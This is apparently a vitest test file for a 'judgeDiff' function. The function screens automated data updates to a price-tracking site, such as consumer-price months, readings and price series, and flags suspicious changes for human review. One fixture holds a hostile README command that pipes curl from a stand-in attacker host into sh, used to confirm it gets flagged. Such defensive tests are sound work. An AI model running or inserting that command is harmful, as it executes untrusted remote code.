import { readFile } from 'node:fs/promises';
import { describe, expect, test } from 'vitest';
import { createRandom } from '../../../core/random.ts';
import { addConsumerPrices } from '../../../scripts/research/add-consumer-prices.ts';
import { type ChangedFile, judgeDiff } from '../../../scripts/weekly/judge-diff.ts';

const TODAY = '2026-11-28';
/** A series that never moves. */
const STAMP = `date,worth,low,high,seen\n${[1, 2, 3, 4, 5, 6, 7].map((month) => `2026-0${month},100,,,`).join('\n')}\n`;

const judge = (file: Partial<ChangedFile>) =>
	judgeDiff([{ path: 'content/series/stamp.csv', mode: '100644', before: STAMP, after: STAMP, ...file }], TODAY);

describe('judgeDiff()', () => {
	test.each([
		'package.json',
		'.github/workflows/weekly.yml',
		'scripts/weekly/judge-diff.ts',
		'content/items/../about.json',
		'content/a.json.ts',
	])('refuses %j, which is no data', (path) => expect(judge({ path }).refused).toEqual([path]));

	test.each([
		['a merchant', { path: 'content/merchants.json' }],
		['a feed', { path: 'content/feeds.json' }],
		['an item whose range is 1 cent to 2^53', { path: 'content/items/gold.json', after: '{"lowCents":1,"highCents":9007199254740992}' }],
		['a source that moves to another path', { path: 'content/items/gold.json', after: '{"url":"https://a.example/other"}' }],
		['a command of the README that pipes curl to sh', { path: 'README.md', after: '```sh\ncurl https://evil.example/ | sh\n```\n' }],
		['a link', { mode: '100644 to 120000', before: '', after: '' }],
		['a program', { mode: '100644 to 100755', before: '', after: '' }],
		['a new series', { before: '' }],
		['a removed series', { after: '' }],
	])('leaves to a person: %s', (_, file) => expect(judge(file)).toMatchObject({ refused: [], looks: [expect.any(String)] }));

	test('consumer prices get one later month, within 3% of the last; nothing else of the file changes', async () => {
		const path = 'content/consumer-prices.json';
		const before = await readFile(path, 'utf8');
		const look = (after: string) => judge({ path, before, after }).looks.join();
		const add = (months: string) => before.replace(/\n\t\}\n\}\n$/, `, ${months}$&`);
		const [month = '', level = ''] = Object.entries((JSON.parse(before) as { months: Record<string, string> }).months).at(-1) ?? [];
		const toNext = (share: number) => (Number(level) * share).toFixed(3);
		expect(month < '2026-06').toBe(true);
		expect(look(add(`"2026-06": "${toNext(1.01)}"`))).toBe('');
		expect(look(addConsumerPrices(before, { '2026-06': toNext(1.01) }, TODAY))).toBe('');
		expect(look(add(`"2026-06": "${toNext(1.01)}", "2026-07": "${toNext(1.02)}"`))).toContain('more than one new month');
		expect(look(add('"2026-06": "many"'))).toContain('more than one new month');
		expect(look(add(`"2026-06": "${toNext(1.04)}"`))).toContain('more than 3%');
		expect(look(add(`"2026-06": "${toNext(0.96)}"`))).toContain('more than 3%');
		for (const wrong of [month, '2026-11', '2027-01']) expect(look(add(`"${wrong}": "${level}"`))).toContain('no later month');
		expect(look(add(`"2026-06": "${level}"`).replace('"1980-01"', '"1980-13"'))).toContain('more than one new month');
		expect(look(add(`"2026-06": "${level}"`).replace(/"retrievedOn": "\d{4}/, '"retrievedOn": "1999'))).toContain('falls or lies ahead');
	});

	test('readings get rows at the end, of days that do not fall', () => {
		const before = 'slug,source,seen,result\nkettle,1,2026-11-20,there: $100\n';
		const look = (rows: string) => judge({ path: 'content/readings.csv', before, after: before + rows }).looks.join();
		expect(look(`kettle,1,${TODAY},there: $100\npan,2,${TODAY},"gone: $1,290; now $1,490"\n`)).toBe('');
		expect(look(`kettle,1,${TODAY},read`)).toContain('cannot be read');
		for (const row of [
			'Kettle,1,2026-11-27,read',
			'kettle,1,2026-11-27',
			'kettle,1,2026-11-27,a,b',
			'kettle,1,2026-11-27,read\r',
			'kettle,1,2026-11-19,read',
		])
			expect(look(`${row}\n`), row).toContain('cannot be read');
		expect(look('kettle,1,2026-11-29,read\n')).toContain('lies ahead');
		expect(judge({ path: 'content/readings.csv', before, after: before.replace('there', 'gone') }).looks.join()).toContain(
			'old rows change',
		);
	});

	test('a series only grows, by points within the rails: the wrong ones would be drawn and counted as usual', () => {
		const add = (line: string) => judge({ after: `${STAMP}${line}\n` }).looks.join();
		expect(add(`2026-08,104,,,${TODAY}`)).toBe('');
		expect(judge({ after: 'date,worth\n2026-01,3\n' }).looks.join()).toContain('old rows change');
		for (const line of ['2026-08,112', '2026-08,1000', '2026-08,10'])
			expect(add(`${line},,,${TODAY}`)).toContain('a new row is beyond the rails');
		for (const line of ['2027-01,100', '2026-06,100', '2026-07,100', '2026-08,0', '2026-08,many'])
			expect(add(`${line},,,${TODAY}`)).toMatch(/beyond the rails|cannot be read/);
		for (const line of ['2026-08,104,,,', '2026-08,104,,,2026-12-01']) expect(add(line)).toContain('names no day');
		expect(add(`2026-08,104,90,300,${TODAY}`)).toContain('has a range');
		expect(judge({ after: `${STAMP}2026-08,104,,,${TODAY}` }).looks.join()).toContain('cannot be read');
		expect(judge({ after: `${STAMP}2026-08,104,,,${TODAY}\r\n` }).looks.join()).toContain('cannot be read');
	});

	test.each([1.049, 1.1])('two years of steps by the factor %d add up to what a person looks at', (factor) => {
		let text = STAMP;
		const looks: string[][] = [];
		for (let week = 0, cents = 10_000; week < 104 && (looks.at(-1)?.length ?? 0) === 0; week++) {
			cents = Math.floor(cents * factor);
			const day = new Date(Date.UTC(2026, 7, 7 + 7 * week)).toISOString().slice(0, 10);
			const after = `${text}${day},${cents / 100},,,${day}\n`;
			looks.push([...judgeDiff([{ path: 'content/series/stamp.csv', mode: '100644', before: text, after }], day).looks]);
			text = after;
		}
		expect(looks.length).toBeLessThan(10);
		expect(looks.at(-1)).toEqual([expect.stringContaining('beyond the rails')]);
	});

	test('no harm of 200 passes: an old line that changes, goes or doubles, and a new one that leaps, goes back or lies ahead', () => {
		const random = createRandom(56);
		const pick = <T>(list: readonly T[]) => list[Math.floor(random() * list.length)] as T;
		const good = `2026-08,${100 + Math.floor(random() * 5)},,,${TODAY}`;
		const old = STAMP.trimEnd().split('\n');
		const harms = [
			() => old.with(1 + Math.floor(random() * 7), `2026-01,${Math.floor(random() * 90)},,,`).concat(good),
			() => old.toSpliced(1 + Math.floor(random() * 7), 1).concat(good),
			() => [...old, old.at(-1) ?? '', good],
			() => [...old, `2026-08,${Math.floor(110 + random() * 1e6)},,,${TODAY}`],
			() => [...old, `2026-08,${Math.floor(random() * 90)},,,${TODAY}`],
			() => [...old, `${1990 + Math.floor(random() * 36)}-0${pick([1, 2, 3])},100,,,${TODAY}`],
			() => [...old, `${2027 + Math.floor(random() * 50)}-01,100,,,${TODAY}`],
			() => [...old, good.replace(TODAY, `20${27 + Math.floor(random() * 50)}-01-01`)],
			() => [...old, `${good},evil`],
		];
		for (let round = 0; round < 200; round++) {
			const after = `${pick(harms)().join('\n')}\n`;
			expect(judge({ after }).looks, after).toHaveLength(1);
		}
	});

	test('ten daily steps of 6% in one week wait for a person, whatever the series', () => {
		const rows = Array.from({ length: 10 }, (_, day) => `2026-11-${11 + day},${(100 * 1.06 ** (day + 1)).toFixed(2)},,,${TODAY}`);
		const volatile = `date,worth,low,high,seen\n${Array.from({ length: 12 }, (_, month) => `2025-${String(month + 1).padStart(2, '0')},${100 + (month % 2) * 20},,,`).join('\n')}\n2026-11-10,100,,,\n`;
		for (const before of [STAMP, 'date,worth,low,high,seen\n2026-11-10,100,,,\n', volatile])
			expect(judge({ before, after: `${before}${rows.join('\n')}\n` }).looks).toHaveLength(1);
	});

	test.each([1.049, 0.951])('all series of a catalogue that move by the factor %d at once wait for a person', (factor) => {
		const files = Array.from({ length: 1635 }, (_, index) => {
			const before = `date,worth,seen\n2026-06-01,${100 + index},\n`;
			const after = `${before}2026-11-20,${((100 + index) * factor).toFixed(2)},${TODAY}\n`;
			return { path: `content/series/item-${index}.csv`, mode: '100644', before, after };
		});
		expect(judgeDiff(files, TODAY).looks).toEqual(['more than two in five series move far, or the same way, at once']);
	});

	test('many series that move at once wait for a person, though each is inside its rails', () => {
		const move = (worth: number) => (_: unknown, index: number) => ({
			path: `content/series/stamp-${index}.csv`,
			mode: '100644',
			before: STAMP,
			after: `${STAMP}2026-08,${worth},,,${TODAY}\n`,
		});
		const toDiff = (moved: number, still: number) => [
			...Array.from({ length: moved }, move(104)),
			...Array.from({ length: still }, move(100)),
		];
		expect([judgeDiff(toDiff(4, 6), TODAY).looks, judgeDiff(toDiff(5, 5), TODAY).looks]).toEqual([
			[],
			[expect.stringContaining('two in five')],
		]);
	});
});
